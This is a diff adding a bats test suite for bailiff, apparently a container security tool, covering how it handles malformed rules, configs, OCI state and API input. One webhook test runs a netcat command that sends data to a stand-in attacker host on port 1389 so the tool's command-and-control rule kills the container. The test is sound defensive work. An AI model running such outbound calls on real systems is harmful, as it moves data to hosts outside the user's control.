@@ -1,0 +1,192 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: Apache-2.0
+# Bad input gets a message that says where, a non-zero exit, and nothing else.
+
+load story
+
+setup_file() { story_open; }
+teardown_file() { story_close; }
+setup() { BAD=$(mktemp -d "$SCRATCH/bad.XXXXXX"); }
+teardown() { story_quiet; }
+
+# bailiffd does not come up with this configuration, and says each TEXT.
+service_refuses() {
+  run timeout 20 "$BAILIFF_BIN/bailiffd" --config "$SVC/bailiff.yaml"
+  ((status != 0 && status != 124))
+  says "$@"
+  [[ ! -e $SVC/run/bailiffd.sock ]]
+}
+
+@test "malformed YAML in a rule file" {
+  printf -- '- rule: A\n  desc: "open\n  condition: evt.type = connect\n' \
+    >"$BAD/rules.yaml"
+  run bailiff check "$BAD/rules.yaml"
+  ((status == 1))
+  [[ $output =~ rules.yaml:[0-9]+:[0-9]+ ]]
+}
+
+@test "a condition that does not parse is shown with a caret" {
+  cat >"$BAD/rules.yaml" <<'END'
+- rule: A
+  desc: d
+  condition: evt.type = connect and and fd.sport = 1
+  output: o
+  priority: NOTICE
+END
+  run bailiff check "$BAD/rules.yaml"
+  ((status == 1))
+  [[ $output =~ rules.yaml:3:[0-9]+ ]]
+  grep -q '^[ |0-9]*\^' <<<"$output"
+}
+
+@test "an unknown field comes with a suggestion" {
+  cat >"$BAD/rules.yaml" <<'END'
+- rule: A
+  desc: d
+  condition: evt.type = connect and fd.spot = 1
+  output: o
+  priority: NOTICE
+END
+  run bailiff check "$BAD/rules.yaml"
+  ((status == 1))
+  [[ $output =~ rules.yaml:3:[0-9]+ ]]
+  says fd.spot fd.sport
+}
+
+@test "an unknown rule in a policy" {
+  printf 'policies:\n  - name: P\n    rules: ["No such rule"]\n' \
+    >"$BAD/policies.yaml"
+  run bailiff check "$SCRATCH/rules/log4j.rules.yaml" \
+    "$SCRATCH/rules/local-indicators.rules.yaml" "$BAD/policies.yaml"
+  ((status == 1))
+  says "No such rule"
+  [[ $output =~ policies.yaml:3:[0-9]+ ]]
+  service_prepare "$BAD/policies.yaml"
+  service_refuses "No such rule" policies.yaml:3:
+  [[ ! -e $SVC/state/policy.bin ]]
+}
+
+@test "an unknown key in bailiff.yaml" {
+  service_prepare "$KILL_POLICY" "sinkz: []"
+  service_refuses sinkz "bailiff.yaml:"
+}
+
+@test "a configuration that others may write" {
+  service_prepare "$KILL_POLICY"
+  chmod 0666 "$SVC/bailiff.yaml"
+  service_refuses "$SVC/bailiff.yaml"
+  run contained rewritten echo alive
+  ((status != 0))
+  says "$SVC/bailiff.yaml"
+  [[ $output != *alive* ]]
+}
+
+@test "a rule file that others may write" {
+  mkdir "$BAD/rules"
+  install -m 0666 "$SCRATCH"/rules/log4j.rules.yaml "$BAD/rules/"
+  RULES="[$BAD/rules]" service_prepare "$KILL_POLICY"
+  service_refuses "$BAD/rules/log4j.rules.yaml"
+}
+
+@test "a config.json that is not JSON" {
+  service_prepare "$KILL_POLICY"
+  bundle_make "$BAD/bundle" "$ROOTFS" broken echo alive
+  echo '{"ociVersion": "1.0.2", ' >"$BAD/bundle/config.json"
+  run bailiff_runc run --bundle "$BAD/bundle" broken
+  ((status != 0))
+  says config.json
+  one_line_from bailiff-runc
+  [[ $(<"$BAD/bundle/config.json") == '{"ociVersion": "1.0.2", ' ]]
+}
+
+@test "the wrapper's error is in the runtime's log as well" {
+  service_prepare "$KILL_POLICY"
+  mkdir "$BAD/bundle"
+  echo '[]' >"$BAD/bundle/config.json"
+  run --separate-stderr bailiff_runc --log "$BAD/log.json" --log-format json \
+    create --bundle "$BAD/bundle" broken
+  ((status != 0))
+  [[ -z $output ]]
+  jq -e 'select(.level == "error") | .msg | contains("config.json")' \
+    "$BAD/log.json"
+}
+
+# hook_on STATE-FILE
+hook_on() {
+  "$HOOK" createRuntime --run-dir "$SVC/run" \
+    --state-dir "$SVC/state" --bpf-dir "$SCRATCH/bpffs/${SVC##*/}" \
+    --on-failure deny <"$1"
+}
+
+@test "an OCI state that is cut short, oversized, or names nobody" {
+  service "$KILL_POLICY"
+  service_stop
+  echo '{"ociVersion":"1.0.2","id":"nobody","pid":' >"$BAD/state"
+  run hook_on "$BAD/state"
+  ((status != 0))
+  says state
+  one_line_from bailiff-hook
+
+  { printf '{"id":"'; head -c 5000000 /dev/zero | tr '\0' a; } >"$BAD/state"
+  run hook_on "$BAD/state"
+  ((status != 0))
+  one_line_from bailiff-hook
+
+  echo '{"ociVersion":"1.0.2","id":"nobody","status":"creating","bundle":"/"}' \
+    >"$BAD/state"
+  run hook_on "$BAD/state"
+  ((status != 0))
+  says "names no process"
+  one_line_from bailiff-hook
+  nothing_left_of nobody
+}
+
+@test "a compiled policy that is none, or of another version, is not dumped" {
+  service "$KILL_POLICY"
+  run bailiff dump "$SVC/state/policy.bin"
+  ((status == 0))
+  truncate --size=-9 "$SVC/state/policy.bin"
+  run bailiff dump "$SVC/state/policy.bin"
+  ((status != 0))
+  says policy.bin
+}
+
+@test "a violation that is not a Falco alert" {
+  service "$KILL_POLICY"
+  run answer POST /v1/violations --json '{"rule": 5}'
+  says $'\n400'
+  jq -e '.error | .code and .message and .field' <<<"${lines[0]}"
+  run answer POST /v1/violations --json 'nonsense'
+  says $'\n400'
+  head -c 1100000 /dev/zero | tr '\0' ' ' >"$BAD/large"
+  run answer POST /v1/violations --json "@$BAD/large"
+  says 413
+  [[ -z $(service_events) ]]
+}
+
+@test "a webhook that never answers delays nobody, and is counted" {
+  # It accepts, and says nothing.
+  spawn "$BAD/silent" python3 -c 'if True:
+    import socket, sys, time
+    s = socket.create_server(("127.0.0.1", 0))
+    open(sys.argv[1], "w").write(str(s.getsockname()[1]))
+    time.sleep(1000)' "$BAD/port"
+  wait_until 10 "the silent receiver" test -s "$BAD/port"
+  service "$KILL_POLICY" "sinks: [{name: soc, type: webhook,
+    url: \"http://127.0.0.1:$(<"$BAD/port")/\"}]"
+  run contained hurried sh -c \
+    "echo hello | nc -w 3 $ATTACKER4 1389; sleep 60"
+  ((status == 137))
+  event "$C2_RULE" '.bailiff.outcome == "killed"'
+  wait_until 10 "the alert to wait" \
+    metric '^bailiff_alerts_pending{sink="soc"} [1-9]'
+  service_stop
+}
+
+@test "bailiff without a service, and with a wrong command" {
+  run bailiff --api "unix:$BAD/none.sock" ps
+  ((status == 3))
+  says "$BAD/none.sock"
+  run bailiff frobnicate
+  ((status == 2))
+}
